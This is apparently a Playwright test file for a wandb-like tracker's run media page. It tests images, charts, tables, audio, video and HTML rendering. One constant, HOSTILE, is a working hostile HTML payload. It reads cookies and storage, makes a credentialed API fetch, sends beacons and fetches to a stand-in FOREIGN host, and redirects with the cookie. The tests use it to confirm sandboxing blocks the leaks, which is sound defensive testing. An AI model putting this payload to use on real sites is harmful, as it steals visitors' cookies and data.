"""The media of a run on its page: every kind that can be logged, and a file that is hostile."""

from __future__ import annotations

import csv
import http.server
import io
import json
import subprocess
import sys
import threading
import urllib.error
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest
from playwright.sync_api import Browser, FrameLocator, Locator, Page, Response, expect
from tests.journeys.conftest import Faults
from tests.journeys.panels import logged, project_url
from tests.journeys.processes import ServerProcess, eventually
from tests.journeys.test_page_accessible import assert_open_to_all

LOGGED = """
import json
import numpy as np
import wanllmdb as wandb

rng = np.random.default_rng(4)
run = wandb.init(project="media")
labels = {0: "background", 1: "cat", 2: "dog"}
mask = np.zeros((40, 60), dtype=np.uint8)
mask[5:25, 5:25] = 1
mask[20:35, 30:55] = 2
position = {"minX": 5, "maxX": 25, "minY": 5, "maxY": 25}
boxes = [{"position": position, "domain": "pixel", "class_id": 1, "box_caption": "cat 0.9"}]
grown = wandb.Table(columns=["step", "loss"], log_mode="INCREMENTAL")
for step in range(12):
    image = (rng.random((40, 60, 3)) * 255).astype(np.uint8)
    row = {
        "eval/street": wandb.Image(
            image,
            caption=f"street {step}",
            masks={"truth": {"mask_data": mask, "class_labels": labels}},
            boxes={"guess": {"box_data": boxes, "class_labels": labels}},
        ),
        "samples": [wandb.Image(image[:20, :20], caption=f"{n} of {step}") for n in range(6)],
        "weights": wandb.Histogram(rng.normal(0, 1 + step / 4, 500)),
        "state": {"phase": "warm-up" if step < 6 else "steady"},
    }
    if step % 5 == 0:
        row["audio"] = wandb.Audio(np.sin(np.arange(16000) / 9), sample_rate=8000, caption="a tone")
        row["video"] = wandb.Video(
            (rng.random((6, 3, 16, 16)) * 255).astype(np.uint8), fps=4, format="gif"
        )
        row["html"] = wandb.Html(
            f"<!doctype html><h1>Step {step}</h1><script>document.body.append('ran')</script>"
        )
        row["cloud"] = wandb.Object3D(rng.normal(0, 1, (300, 3)))
        grown.add_data(step, 1 / (step + 1))
        row["grown"] = grown
    run.log(row)
guesses = wandb.Table(columns=["digit", "guess", "sure", "image"])
for n in range(60):
    guesses.add_data(n % 10, (n + n % 7) % 10, n / 60, wandb.Image(image[:12, :12]))
figure = {"data": [{"type": "bar", "x": ["a", "b"], "y": [1, 3]}], "layout": {"title": "Bars"}}
truth = [0, 1, 1, 0, 1, 0]
scores = [[1 - each, each] for each in (0.2, 0.7, 0.9, 0.4, 0.5, 0.3)]
rows = [[n, n * n, "ab"[n % 2]] for n in range(20)]
table = wandb.Table(columns=["n", "square", "kind"], data=rows)
run.log({
    "eval/guesses": guesses,
    "plot/roc": wandb.plot.roc_curve(truth, scores, labels=["no", "yes"]),
    "plot/pr": wandb.plot.pr_curve(truth, scores, labels=["no", "yes"]),
    "plot/matrix": wandb.plot.confusion_matrix(
        y_true=truth, preds=[0, 1, 0, 0, 1, 1], class_names=["no", "yes"]
    ),
    "plot/line": wandb.plot.line(table, "n", "square", stroke="kind", title="Squares"),
    "plot/scatter": wandb.plot.scatter(table, "n", "square"),
    "plot/bar": wandb.plot.bar(table, "kind", "square", title="By kind"),
    "plot/histogram": wandb.plot.histogram(table, "square"),
    "plot/series": wandb.plot.line_series([0, 1, 2], [[1, 2, 3], [3, 2, 1]], keys=["up", "down"]),
    "plot/own": wandb.plot_table("me/own/v0", table, {"x": "n"}, {}),
})
run.finish()
print("LEDGER", json.dumps({"id": run.id}))
"""

PLOTLY = """
import json
import wanllmdb as wandb

class Figure:
    def to_plotly_json(self):
        return {"data": [{"type": "bar", "x": ["a", "b"], "y": [1, 3]}], "layout": {}}
Figure.__module__ = "plotly.graph_objs"

path = "figure.plotly.json"
open(path, "w").write(json.dumps(Figure().to_plotly_json()))
run = wandb.init(project="media")
run.log({"figure": wandb.Plotly(path)})
run.finish()
print("LEDGER", json.dumps({"id": run.id}))
"""

PAINTED = """
(canvas) => {
    const { width, height } = canvas;
    const { data } = canvas.getContext("2d").getImageData(0, 0, width, height);
    return width > 0 && data.some((value) => value !== 0);
}
"""

SHIFTS = """
() => {
    window.shifted = [];
    const name = ({ node }) => (node?.outerHTML ?? node?.textContent ?? "").slice(0, 120);
    new PerformanceObserver((list) => {
        for (const one of list.getEntries()) {
            const of = one.sources.filter(({ node }) => {
                const part = node?.nodeType === 3 ? node.parentElement : node;
                return part?.closest("[data-testid=media]");
            });
            if (!one.hadRecentInput && of.length) window.shifted.push([one.value, ...of.map(name)]);
        }
    }).observe({ type: "layout-shift", buffered: true });
}
"""


def open_media(page: Page, server: ServerProcess, run: str, query: str = "") -> None:
    page.goto(project_url(server, "media", f"runs/{run}/media") + query)
    expect(page.get_by_test_id("media-panel").first).to_be_visible(timeout=15_000)


def panel(page: Page, key: str) -> Locator:
    found = page.locator(f"[data-testid=media-panel][data-key={json.dumps(key)}]")
    found.scroll_into_view_if_needed()
    return found


def step_of(part: Locator) -> int:
    return int(part.get_by_test_id("step").get_attribute("data-step", timeout=15_000) or "-1")


@pytest.mark.timeout(180)
def test_every_kind_of_media_is_shown(server: ServerProcess, page: Page) -> None:
    run = logged(server, LOGGED)["id"]
    page.add_init_script(f"({SHIFTS})()")
    answers: list[Response] = []
    page.on("response", lambda response: answers.append(response))
    open_media(page, server, run)

    street = panel(page, "eval/street")
    image = street.get_by_role("img", name="street 11")
    expect(image).to_be_visible()
    eventually(lambda: image.evaluate("(each) => each.naturalWidth") == 60)
    expect(street.get_by_test_id("boxes").get_by_text("cat 0.9")).to_be_visible()
    eventually(lambda: street.locator("canvas").evaluate(PAINTED), why="the mask is painted")
    legend = street.get_by_test_id("legend")
    for name in ("cat", "dog"):
        legend.get_by_role("group", name="truth").get_by_role("button", name=name).click()
    eventually(lambda: not street.locator("canvas").evaluate(PAINTED), why="no class is left")
    legend.get_by_role("group", name="guess").get_by_role("button", name="cat").click()
    expect(street.get_by_text("cat 0.9")).to_have_count(0)

    slider = street.get_by_role("slider", name="Step of eval/street")
    slider.focus()
    page.keyboard.press("Home")
    expect(street.get_by_role("img", name="street 0")).to_be_visible()
    page.keyboard.press("ArrowRight")
    expect(street.get_by_role("img", name="street 1")).to_be_visible()
    samples = panel(page, "samples")
    expect(samples.get_by_role("img")).to_have_count(6)
    assert step_of(samples) == 1  # one step for all
    page.wait_for_url(lambda url: "step=1" in url)
    slider.focus()
    page.keyboard.press("End")
    assert step_of(samples) == 11

    weights = panel(page, "weights")
    eventually(lambda: weights.get_by_test_id("heat").evaluate(PAINTED), why="a heat map")
    weights.get_by_test_id("heat").hover()
    expect(weights.get_by_test_id("tip")).to_contain_text("step")
    weights.get_by_role("button", name="One step").click()
    eventually(lambda: weights.get_by_test_id("bars").evaluate(PAINTED), why="bars")

    audio = panel(page, "audio").locator("audio")
    eventually(lambda: audio.evaluate("(each) => each.readyState") > 0, why="the sound is read")
    assert audio.evaluate("(each) => Math.round(each.duration)") == 2
    assert any(each.status == 206 and each.url.split("?")[0].endswith(".wav") for each in answers)
    film = panel(page, "video").get_by_role("img")
    eventually(lambda: film.evaluate("(each) => each.naturalWidth") == 16, why="a moving picture")

    document = in_frame(panel(page, "html"), "html-frame")
    expect(document.get_by_role("heading", name="Step 10")).to_be_visible()
    expect(document.get_by_text("ran")).to_be_visible()

    cloud = panel(page, "cloud")
    eventually(lambda: cloud.get_by_test_id("points").evaluate(PAINTED), why="points")
    with page.expect_download() as taken:
        cloud.get_by_role("link", name="Download").click()
    assert len(json.loads(taken.value.path().read_text())) == 300
    expect(panel(page, "state.phase").get_by_test_id("json")).to_have_text("steady")
    shifted = page.evaluate("() => window.shifted")
    assert shifted == [], "\n".join(map(str, shifted))


def in_frame(part: Locator, name: str) -> FrameLocator:
    return part.get_by_test_id(name).content_frame


@pytest.mark.timeout(120)
def test_charts_are_drawn_from_their_tables(server: ServerProcess, page: Page) -> None:
    run = logged(server, LOGGED)["id"]
    open_media(page, server, run, "?find=plot")
    expect(page.locator("[data-key$=_table]")).to_have_count(0)

    for name, series in (("roc", 2), ("pr", 2), ("line", 2), ("series", 2), ("scatter", 1)):
        paths = panel(page, f"plot/{name}").get_by_test_id("plot").locator("path")
        expect(paths).to_have_count(series)
        assert all(len(path.get_attribute("d") or "") > 10 for path in paths.all())
    roc = panel(page, "plot/roc")
    expect(roc).to_contain_text("False positive rate")
    roc.get_by_role("button", name="no", exact=True).click()
    expect(roc.get_by_test_id("plot").locator("path")).to_have_count(1)

    matrix = panel(page, "plot/matrix").get_by_role("table")
    expect(matrix.get_by_role("rowheader")).to_have_text(["no", "yes"])
    expect(matrix.get_by_role("row").nth(1).get_by_role("cell")).to_have_text(["2", "1"])
    expect(panel(page, "plot/bar").get_by_test_id("plot")).to_contain_text("square by kind")
    expect(panel(page, "plot/histogram").locator("svg rect").first).to_be_visible()

    own = panel(page, "plot/own")
    expect(own.get_by_test_id("why")).to_contain_text("me/own/v0")
    expect(own.get_by_test_id("table-view")).to_have_attribute("data-rows", "20")
    roc.get_by_role("button", name="plot/roc as a table").click()
    expect(roc.get_by_test_id("table-row").first).to_be_visible()


@pytest.mark.timeout(120)
def test_a_table_is_sorted_filtered_and_taken_away(server: ServerProcess, page: Page) -> None:
    run = logged(server, LOGGED)["id"]
    open_media(page, server, run, "?find=eval/guesses")
    guesses = panel(page, "eval/guesses")
    rows = guesses.get_by_test_id("table-row")
    expect(guesses.get_by_test_id("table-view")).to_have_attribute("data-rows", "60")
    thumbnail = rows.first.get_by_role("img")
    eventually(lambda: thumbnail.evaluate("(each) => each.naturalWidth") == 12)

    guesses.get_by_role("button", name="sure", exact=True).click()
    expect(rows.first.get_by_role("cell").nth(3)).to_have_text("0.9833")
    expect(guesses.get_by_role("columnheader", name="sure")).to_have_attribute(
        "aria-sort", "descending"
    )
    guesses.get_by_role("button", name="Filter digit").click()
    page.get_by_label("Only rows whose digit has").fill(">= 8")
    expect(guesses.get_by_test_id("table-count")).to_have_text("12 of 60")
    page.keyboard.press("Escape")
    with page.expect_download() as taken:
        guesses.get_by_role("button", name="Export eval/guesses as CSV").click()
    lines = list(csv.DictReader(io.StringIO(taken.value.path().read_text())))
    assert len(lines) == 12
    assert {line["digit"] for line in lines} == {"8", "9"}
    assert lines[0]["sure"] == repr(59 / 60)

    guesses.get_by_label("Find in eval/guesses").fill("nothing has this")
    guesses.get_by_role("button", name="Clear filters").click()
    expect(guesses.get_by_test_id("table-count")).to_have_text("60 rows")
    rows.first.get_by_role("button", name="Enlarge").click()
    expect(page.get_by_role("dialog").get_by_text("12 × 12")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.get_by_role("dialog")).to_have_count(0)

    edge = guesses.get_by_role("separator", name="Width of guess")
    before = int(edge.get_attribute("aria-valuenow") or 0)
    edge.focus()
    page.keyboard.press("ArrowRight")
    assert int(edge.get_attribute("aria-valuenow") or 0) > before

    page.get_by_label("Find panels").fill("grown")
    expect(panel(page, "grown").get_by_test_id("table-view")).to_have_attribute("data-rows", "3")
    panel(page, "grown").get_by_role("slider").focus()
    page.keyboard.press("Home")
    expect(panel(page, "grown").get_by_test_id("table-view")).to_have_attribute("data-rows", "1")


@pytest.mark.timeout(120)
def test_a_figure_is_drawn_where_it_can_do_no_harm(server: ServerProcess, page: Page) -> None:
    run = logged(server, PLOTLY)["id"]
    loaded: list[str] = []
    page.on("request", lambda request: loaded.append(request.url))
    open_media(page, server, run)
    figure = panel(page, "figure")
    expect(figure.locator("[data-shown]")).to_be_visible(timeout=30_000)
    bars = in_frame(figure, "plotly-frame").locator(".bars .point")
    expect(bars).to_have_count(2)
    scripts = [url for url in loaded if "plotly-strict" in url]
    assert len(scripts) == 1


LARGE = """
import json
import wanllmdb as wandb

run = wandb.init(project="media")
data = [[n, f"row {n % 977}", n * 0.5] for n in range(200_000)]
run.log({"large": wandb.Table(columns=["n", "name", "half"], data=data)})
run.finish()
print("LEDGER", json.dumps({"id": run.id}))
"""


@pytest.mark.timeout(180)
def test_a_table_of_200_000_rows_is_only_what_is_on_the_screen(
    server: ServerProcess, page: Page
) -> None:
    run = logged(server, LARGE)["id"]
    open_media(page, server, run)
    large = panel(page, "large")
    rows = large.get_by_test_id("table-row")
    expect(large.get_by_test_id("table-view")).to_have_attribute("data-rows", "200000")
    large.get_by_role("button", name="n", exact=True).click()
    expect(rows.first.get_by_role("cell").nth(1)).to_have_text("199999")
    scroller = large.get_by_role("region", name="Rows of large")
    scroller.evaluate("(each) => each.scrollTo(0, each.scrollHeight)")
    expect(rows.last.get_by_role("cell").nth(1)).to_have_text("0")
    large.get_by_label("Find in large").fill("row 976")
    expect(large.get_by_test_id("table-count")).to_have_text("204 of 200,000")
    assert page.evaluate("() => document.querySelectorAll('*').length") < 1500


ONE_BY_ONE = """
import sys
import numpy as np
import wanllmdb as wandb

run = wandb.init(project="media", id=sys.argv[1])
for word in sys.stdin:
    step = int(word)
    row = {"picture": wandb.Image(np.full((8, 8, 3), 20 * step, np.uint8), caption=f"at {step}")}
    if step == 3:
        row["late"] = wandb.Html("<p>late</p>")
    run.log(row, step=step)
    run.log({"loss": 1.0}, step=step + 1)
run.finish()
"""


def shown_keys(server: ServerProcess) -> set[str]:
    try:
        found = server.get(f"/projects/{server.owner}/media/runs/live1/keys")
    except urllib.error.HTTPError:
        return set()  # it has not begun yet
    return {each["key"] for each in found["keys"]}


@pytest.mark.timeout(120)
def test_what_a_run_logs_now_appears_and_nothing_moves(server: ServerProcess, page: Page) -> None:
    script = server.root / "live.py"
    script.write_text(ONE_BY_ONE)
    training = subprocess.Popen(
        [sys.executable, str(script), "live1"], env=server.environment, cwd=server.root,
        stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.STDOUT, text=True,
    )  # fmt: skip
    assert training.stdin

    def log(step: int) -> None:
        assert training.stdin
        training.stdin.write(f"{step}\n")
        training.stdin.flush()

    log(1)
    eventually(lambda: "picture" in shown_keys(server), why="the first picture is there")
    open_media(page, server, "live1")
    picture = panel(page, "picture")
    expect(picture.get_by_role("img", name="at 1")).to_be_visible()
    before = picture.bounding_box()

    log(3)
    expect(picture.get_by_role("img", name="at 3")).to_be_visible(timeout=20_000)
    expect(panel(page, "late")).to_be_visible(timeout=20_000)
    picture.get_by_role("slider").focus()
    page.keyboard.press("Home")
    log(5)
    slider = picture.get_by_role("slider")
    expect(slider).to_have_attribute("max", "2", timeout=20_000)
    expect(picture.get_by_role("img", name="at 1")).to_be_visible()  # it was chosen, so it stays
    assert picture.bounding_box() == before
    training.stdin.close()
    assert training.wait(timeout=30) == 0


@pytest.mark.timeout(120)
@pytest.mark.parametrize("theme", ["light", "dark"])
def test_media_shut_nobody_out(server: ServerProcess, page: Page, theme: str) -> None:
    run = logged(server, LOGGED)["id"]
    page.emulate_media(color_scheme=theme)  # type: ignore[arg-type]
    open_media(page, server, run)
    for key in ("eval/street", "eval/guesses", "weights", "plot/matrix", "plot/roc", "html"):
        panel(page, key)
        page.wait_for_timeout(400)
        assert_open_to_all(page, f"media at {key} in {theme}")
    panel(page, "eval/street").get_by_role("button", name="Enlarge street 11").click()
    expect(page.get_by_role("dialog")).to_be_visible()
    assert_open_to_all(page, f"an enlarged image in {theme}")
    page.keyboard.press("+")
    expect(page.get_by_role("dialog").get_by_text("125%")).to_be_visible()
    page.keyboard.press("Escape")
    panel(page, "eval/guesses").get_by_role("button", name="in full screen").click()
    full = page.get_by_test_id("media-full")
    expect(full.get_by_test_id("table-row").first).to_be_visible()
    assert_open_to_all(page, f"a table in full screen in {theme}")
    page.keyboard.press("Escape")
    expect(full).to_have_count(0)


@pytest.mark.timeout(60)
def test_a_run_without_media_says_how_to_log_some(server: ServerProcess, page: Page) -> None:
    script = """
import json
import wanllmdb as wandb
run = wandb.init(project="media")
run.log({"loss": 1})
run.finish()
print("LEDGER", json.dumps({"id": run.id}))
"""
    run = logged(server, script)["id"]
    page.goto(project_url(server, "media", f"runs/{run}/media"))
    expect(page.get_by_role("heading", name="No media was logged")).to_be_visible()
    expect(page.get_by_text("wandb.Image(")).to_be_visible()


HOSTILE = """
<!doctype html>
<title>hostile</title>
<form id="form" method="post" action="SERVER/leak/form"><input name="a" value="b"></form>
<link rel="stylesheet" href="FOREIGN/leak/style">
<img src="FOREIGN/leak/image">
<script src="FOREIGN/leak/script"></script>
<iframe src="SERVER/api/v1/me"></iframe>
<pre id="said"></pre>
<script>
const found = {};
const note = (name, value) => {
  found[name] = String(value);
  document.getElementById("said").textContent = JSON.stringify(found);
};
const attempt = (name, act) => {
  try { note(name, act()); } catch (error) { note(name, `refused ${error.name}`); }
};
const later = async (name, act) => {
  try { note(name, `got ${await act()}`); } catch (error) { note(name, "refused"); }
};
attempt("origin", () => self.origin);
attempt("cookie", () => document.cookie);
attempt("local", () => localStorage.length);
attempt("session", () => sessionStorage.length);
attempt("indexed", () => { indexedDB.open("x"); return "opened"; });
attempt("parent", () => parent.document.title);
attempt("top", () => { top.location = "FOREIGN/leak/top"; return "went"; });
attempt("popup", () => window.open("FOREIGN/leak/popup"));
attempt("form", () => { document.getElementById("form").submit(); return "sent"; });
attempt("beacon", () => { navigator.sendBeacon("FOREIGN/leak/beacon", "x"); return "sent"; });
attempt("dialog", () => { alert("hello"); return "asked"; });
attempt("socket", () => { new WebSocket("SOCKET/leak/socket"); return "made"; });
attempt("worker", () => { new Worker("SERVER/leak/worker"); return "made"; });
attempt("rtc", () => typeof RTCPeerConnection);
new Image().src = "FOREIGN/leak/pixel";
later("api", () => fetch("SERVER/api/v1/me", { credentials: "include" }).then((a) => a.text()));
later("foreign", () => fetch("FOREIGN/leak/fetch", { mode: "no-cors" }));
const inner = document.createElement("iframe");
inner.srcdoc = "<script>fetch('FOREIGN/leak/inner', { mode: 'no-cors' })<\\/script>";
document.body.append(inner);
parent.postMessage({ frame: "height", height: 1e9 }, "*");
parent.postMessage({ frame: "refused", uri: "<img src=x onerror=window.ran=1>" }, "*");
setTimeout(() => note("done", "yes"), 1500);
setTimeout(() => { location = "MOVE/leak/gone?" + encodeURIComponent(document.cookie); }, 4000);
</script>
"""

HOSTILE_RUN = """
import json, sys
import wanllmdb as wandb

run = wandb.init(project="media")
run.log({"hostile": wandb.Html(open(sys.argv[1]).read())})
run.finish()
print("LEDGER", json.dumps({"id": run.id}))
"""


def hostile(ours: str, foreign: str, move: str) -> str:
    """The file; it ends with going away to our server or to the foreign one."""
    content = HOSTILE.replace("MOVE", move).replace("SERVER", ours).replace("FOREIGN", foreign)
    return content.replace("SOCKET", foreign.replace("http", "ws"))


@contextmanager
def listening() -> Iterator[tuple[str, list[str]]]:
    """A server of somebody else, and what it was asked for; at /page it has the file."""
    asked: list[str] = []

    class Ear(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200 if self.path == "/page" else 204)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            if self.path == "/page":
                here = f"http://{self.headers['Host']}"
                self.wfile.write(hostile(here, here, "FOREIGN").encode())

        do_POST = do_GET  # noqa: N815

        def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
            pass

    ear = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Ear)
    threading.Thread(target=ear.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{ear.server_port}", asked
    ear.shutdown()
    ear.server_close()


@pytest.mark.timeout(120)
@pytest.mark.parametrize("move", ["FOREIGN", "SERVER"])
def test_a_hostile_file_gets_nowhere(
    server: ServerProcess, page: Page, faults: Faults, move: str
) -> None:
    answered: list[str] = []
    page.on("response", lambda response: answered.append(response.url))
    with listening() as (foreign, asked):
        path = server.root / "hostile.html"
        path.write_text(hostile(server.url, foreign, move))
        run = logged(server, HOSTILE_RUN, str(path))["id"]
        open_media(page, server, run)
        frame = in_frame(panel(page, "hostile"), "html-frame")
        expect(frame.locator("#said")).to_contain_text("done", timeout=15_000)
        found = json.loads(frame.locator("#said").text_content() or "")
        page.wait_for_timeout(4500)  # until it has tried to go away
        assert asked == []

    assert found["origin"] == "null"
    for name in ("cookie", "local", "session", "indexed", "parent", "top", "worker"):
        assert found[name].startswith("refused"), f"{name}: {found[name]}"
    assert (found["popup"], found["rtc"]) == ("null", "undefined")
    assert (found["api"], found["foreign"]) == ("refused", "refused")
    assert not [url for url in answered if "/leak/" in url]
    inside = [each.url for each in page.frames if each != page.main_frame]
    assert not [url for url in inside if "/api/" in url or "leak" in url]

    # The page stands where it stood, and what the file said is no more than text.
    assert "/media" in page.url
    assert page.context.pages == [page]
    assert page.evaluate("() => window.ran ?? null") is None
    box = panel(page, "hostile").bounding_box()
    assert box
    assert box["height"] < 400
    faults.forgive("violates|sandbox|Content Security Policy|Blocked|Failed to fetch|other origin")


@pytest.mark.timeout(60)
def test_the_hostile_file_does_harm_where_nothing_holds_it(browser: Browser) -> None:
    opened = browser.new_page()
    opened.on("dialog", lambda dialog: dialog.dismiss())
    with listening() as (foreign, asked):
        opened.goto(f"{foreign}/page", wait_until="commit")
        for leak in ("style", "image", "script", "pixel", "fetch", "inner", "beacon"):
            opened.wait_for_timeout(200)
            eventually(lambda leak=leak: f"/leak/{leak}" in asked, why=f"{leak}: {asked}")
    opened.close()


@pytest.mark.timeout(60)
def test_no_address_shows_a_logged_file_as_a_document(server: ServerProcess, page: Page) -> None:
    path = server.root / "page.html"
    path.write_text("<!doctype html><h1>Sign in</h1><script>document.title = 'ran'</script>")
    run = logged(server, HOSTILE_RUN, str(path))["id"]
    files = server.get(f"/projects/{server.owner}/media/runs/{run}/files")["items"]
    [file] = [each for each in files if each["path"].endswith(".html")]
    url = f"{server.url}/api/v1/projects/{server.owner}/media/runs/{run}/files/{file['path']}"
    with page.expect_download():
        page.evaluate("(url) => { location.href = url; }", url)
    answer = page.request.get(url)
    assert answer.headers["content-type"] == "application/octet-stream"
    assert answer.headers["content-disposition"].startswith("attachment")
